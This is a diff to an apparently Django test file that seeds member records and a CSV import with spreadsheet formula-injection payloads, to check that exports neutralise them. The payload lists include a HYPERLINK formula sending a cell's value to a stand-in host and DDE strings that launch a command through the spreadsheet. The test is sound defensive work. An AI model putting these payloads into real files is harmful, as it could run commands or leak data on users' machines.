@@ -32,7 +32,7 @@ from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from core.documents import FORMULA_TRIGGERS
 from members import services as member_services
 from members.models import ImportJob, JoinApplication, Member
-from tests.factories import make_id_number, make_member
+from tests.factories import make_id_number, make_member, nth_name
 
 PAYLOAD_NAMES = ['=HYPERLINK("http://x.example/"&E2,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"]
 PAYLOAD_EMPLOYERS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
@@ -137,7 +137,7 @@ def seeded(tree, owner, django_capture_on_commit_callbacks, tmp_path, settings):
         ms = make_member(
             union,
             actor=owner,
-            name=f"载荷{i}",
+            name=nth_name("载荷", i),
             id_number=SEEDED_IDS[i],
             mobile=SEEDED_MOBILES[i],
             employer_name=PAYLOAD_EMPLOYERS[i],
@@ -149,7 +149,7 @@ def seeded(tree, owner, django_capture_on_commit_callbacks, tmp_path, settings):
     w = csv.writer(buf)
     w.writerow(["姓名", "身份证号码", "手机号码", "工作单位"])
     # A hyphen may start a real name (and is a formula trigger): the created row carries it.
-    w.writerow(["-2导入", SEEDED_IDS[2], SEEDED_MOBILES[2], PAYLOAD_EMPLOYERS[0]])
+    w.writerow(["-导入", SEEDED_IDS[2], SEEDED_MOBILES[2], PAYLOAD_EMPLOYERS[0]])
     w.writerow(
         [PAYLOAD_NAMES[1] + "导入", SEEDED_IDS[3][:-1] + ("0" if SEEDED_IDS[3][-1] != "0" else "1"), "1", "=1+1"]
     )
